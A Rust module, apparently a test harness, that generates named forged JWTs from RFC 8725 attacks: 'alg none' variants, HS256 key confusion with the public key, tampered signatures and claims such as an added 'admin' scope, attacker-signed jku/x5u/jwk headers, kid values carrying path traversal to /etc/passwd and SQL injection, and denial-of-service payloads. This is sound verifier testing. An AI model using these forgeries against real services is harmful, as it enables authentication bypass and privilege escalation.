//! Forged JWTs: the attacks of RFC 8725 on a token whose genuine header and claims are known.

use crate::jwk::PrivateKey;
use base64::{
    Engine as _,
    engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

/// Named forgeries of a token. `public` is the key that verifies the genuine one, `canary` an address that nobody may fetch.
pub fn forgeries(genuine: &str, public: &Value, canary: &str) -> Vec<(String, String)> {
    let (header, claims) = crate::jwk::decode(genuine);
    let (input, signature) = genuine.rsplit_once('.').expect("a JWS");
    let payload = input.split_once('.').expect("a JWS").1;
    let mut all: Vec<(String, String)> = Vec::new();
    let mut add = |name: &str, token: String| all.push((name.to_owned(), token));

    for none in ["none", "None", "nOnE", "NONE", ""] {
        let with = encode(&with(&header, "alg", json!(none)));
        add(&format!("alg {none:?}"), format!("{with}.{payload}."));
        add(
            &format!("alg {none:?} with the signature"),
            format!("{with}.{payload}.{signature}"),
        );
    }
    for (name, secret) in public_bytes(public) {
        let input = format!(
            "{}.{payload}",
            encode(&with(&header, "alg", json!("HS256")))
        );
        let mac = URL_SAFE_NO_PAD.encode(hmac(&secret, input.as_bytes()));
        add(
            &format!("HS256 with {name} as the secret"),
            format!("{input}.{mac}"),
        );
    }
    add("no signature", format!("{input}."));
    add("two parts", input.to_owned());
    add("four parts", format!("{genuine}.{signature}"));
    add(
        "half a signature",
        format!("{input}.{}", &signature[..signature.len() / 2]),
    );
    add(
        "a signature of zeros",
        format!("{input}.{}", URL_SAFE_NO_PAD.encode([0; 64])),
    );
    add("a padded signature", format!("{genuine}=="));
    let swapped = match signature.split_at(signature.len() - 1) {
        (start, "A") => format!("{input}.{start}B"),
        (start, _) => format!("{input}.{start}A"),
    };
    add("another last letter", swapped);
    let raised = encode(&with(&claims, "scope", json!("openid admin")));
    let head = input.split_once('.').expect("a JWS").0;
    add(
        "other claims under the signature",
        format!("{head}.{raised}.{signature}"),
    );
    for (name, value) in [
        ("crit", json!(["exp"])),
        ("b64", json!(false)),
        ("kid", json!("../../../etc/passwd")),
    ] {
        let with = encode(&with(&header, name, value));
        add(
            &format!("{name} added to the header"),
            format!("{with}.{payload}.{signature}"),
        );
    }
    let zip = json!({"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "zip": "DEF", "p2c": 2_147_483_647, "p2s": "AAAAAAAAAAA"});
    add(
        "a JWE with a huge p2c",
        format!("{}.AAAA.AAAA.{}.AAAA", encode(&zip), "A".repeat(2000)),
    );
    all.extend(by_the_attacker(&header, &claims, canary));
    all
}

/// Those that the attacker signs with a key of their own.
fn by_the_attacker(header: &Value, claims: &Value, canary: &str) -> Vec<(String, String)> {
    let attacker = PrivateKey::generate();
    let own = attacker.public_jwk();
    let mut all = vec![(
        "another key".to_owned(),
        attacker.sign_with_header(header, claims),
    )];
    let members = [
        ("jwk", own.clone()),
        ("jku", json!(canary)),
        ("x5u", json!(canary)),
        ("x5c", json!([STANDARD.encode(own.to_string())])),
        ("kid", own["kid"].clone()),
        ("kid", json!("../../dev/null")),
        ("kid", json!("' OR 1=1 --")),
        ("kid", json!("x' UNION SELECT 'secret")),
        ("kid", json!(canary)),
        ("kid", json!("k".repeat(9_000))),
        ("kid", json!(7)),
        ("kid", Value::Null),
        ("alg", json!("ES384")),
        ("alg", json!("RS256")),
        ("alg", json!(256)),
        ("typ", json!("at+jwt")),
    ];
    for (name, value) in members {
        let mut text = value.to_string();
        text.truncate(40);
        let token = attacker.sign_with_header(&with(header, name, value), claims);
        all.push((format!("another key, {name} {text}"), token));
    }
    let twice = format!("{{\"alg\":\"none\",{}", &header.to_string()[1..]);
    all.push((
        "alg twice".to_owned(),
        attacker.sign_texts(&twice, &claims.to_string()),
    ));
    all.push(("no JSON".to_owned(), attacker.sign_texts("{", "}")));
    all.push((
        "nested arrays".to_owned(),
        attacker.sign_texts(&"[".repeat(5_000), "{}"),
    ));
    all
}

/// A value with one member replaced.
pub fn with(value: &Value, name: &str, member: Value) -> Value {
    let mut value = value.clone();
    value[name] = member;
    value
}

/// A value without one member.
pub fn without(value: &Value, name: &str) -> Value {
    let mut value = value.clone();
    value.as_object_mut().expect("an object").remove(name);
    value
}

fn encode(value: &Value) -> String {
    URL_SAFE_NO_PAD.encode(value.to_string())
}

/// The forms in which a public P-256 key is mistaken for a secret.
fn public_bytes(jwk: &Value) -> Vec<(&'static str, Vec<u8>)> {
    let part = |name: &str| {
        let text = jwk[name].as_str().unwrap_or_default();
        URL_SAFE_NO_PAD.decode(text).expect("base64url")
    };
    let prefix = [
        0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08,
        0x2a, 0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00, 0x04,
    ];
    let der = [prefix.as_slice(), &part("x"), &part("y")].concat();
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        STANDARD.encode(&der)
    );
    vec![
        ("the public DER", der),
        ("the public PEM", pem.into_bytes()),
        ("the public JWK", jwk.to_string().into_bytes()),
        ("nothing", Vec::new()),
    ]
}

/// RFC 2104 with SHA-256.
pub(crate) fn hmac(secret: &[u8], text: &[u8]) -> Vec<u8> {
    let mut key = if secret.len() > 64 {
        Sha256::digest(secret).to_vec()
    } else {
        secret.to_vec()
    };
    key.resize(64, 0);
    let pad = |byte: u8| key.iter().map(|key| key ^ byte).collect::<Vec<u8>>();
    let inner = Sha256::digest([pad(0x36).as_slice(), text].concat());
    Sha256::digest([pad(0x5c).as_slice(), &inner].concat()).to_vec()
}
